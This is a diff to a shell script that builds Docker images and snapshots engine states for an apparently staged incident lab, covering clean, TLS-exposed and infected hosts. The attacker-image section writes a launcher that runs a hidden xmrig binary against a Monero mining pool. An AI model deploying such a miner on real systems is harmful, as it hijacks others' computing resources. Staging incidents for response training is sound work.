@@ -3,6 +3,16 @@ set -eu
 export DOCKER_BUILDKIT=0
 cd /images
 
+# What the engine has on disk so far becomes the start of the hosts of that kind.
+keep() { # keep KIND
+  systemctl stop docker.socket docker
+  mkdir -p /images/kept
+  rm -rf "/images/kept/$1"
+  cp -a /var/lib/docker "/images/kept/$1"
+  systemctl reset-failed docker.socket docker.service
+  systemctl start docker
+}
+
 build() { # build REF < Dockerfile ; the context is ./context
   docker build -q -t "$1" -f - context > /dev/null
 }
@@ -72,6 +82,22 @@ EXPOSE 6379
 ENTRYPOINT ["docker-entrypoint.sh"]
 CMD ["redis-server"]
 X
+build lab/small:1 << 'X'
+FROM busybox:1.36
+CMD ["sleep", "1000000"]
+X
+
+keep plain
+
+# --- an image that nobody knows, on the server that is reached through its engine alone
+build netmon4/agent:latest << 'X'
+FROM busybox:1.36
+CMD ["sh", "-c", "while sleep 5; do :; done"]
+X
+keep tls
+docker rmi -f netmon4/agent:latest > /dev/null
+
+# --- the shop's
 build traefik:v3.1 << 'X'
 FROM busybox:1.36
 COPY serve /usr/local/bin/traefik
@@ -111,11 +137,6 @@ build ghcr.io/acme-shop/mail-relay:3.2.0 << 'X'
 FROM busybox:1.36
 CMD ["sh", "-c", "sleep 1; echo 'fatal: /etc/relay.conf: no such file' >&2; exit 1"]
 X
-build lab/small:1 << 'X'
-FROM busybox:1.36
-CMD ["sleep", "1000000"]
-X
-
 # --- the attacker's images. The wallet belongs to nobody: its keys were made at random and thrown away.
 wallet=46gapW8DVCncakoxJNJLQdV1nPjoMr6E1HBhHX4LWgGBLhkL4Coj4zRXCdb7aPuXBwERTg3jeD5b9N6gnM7s6ScC5XsJFn3
 printf '#!/bin/sh\ncp /usr/local/lib/.m /tmp/xmrig && exec /tmp/xmrig -o stratum+tcp://xmr.nanopool.org:14433 -u %s.theimg2 -p x --donate-level 1 --cpu-max-threads-hint 100 -k --coin=monero\n' "$wallet" > context/mac.sh
@@ -133,11 +154,6 @@ COPY worker /usr/local/lib/.m
 COPY mac.sh /root/mac.sh
 ENTRYPOINT ["/bin/sh", "/root/mac.sh"]
 X
-build netmon4/agent:latest << 'X'
-FROM busybox:1.36
-CMD ["sh", "-c", "while sleep 5; do :; done"]
-X
-
 # --- left over from earlier builds: images that lost their name
 for round in 1 2 3; do
   echo "$round" > context/version
@@ -149,3 +165,4 @@ X
 done
 # Kept beside, so that the incident can be staged again after somebody removed them.
 docker save -o attack-images.tar heybb/theimg2 zoolu/ubuntu
+keep infected
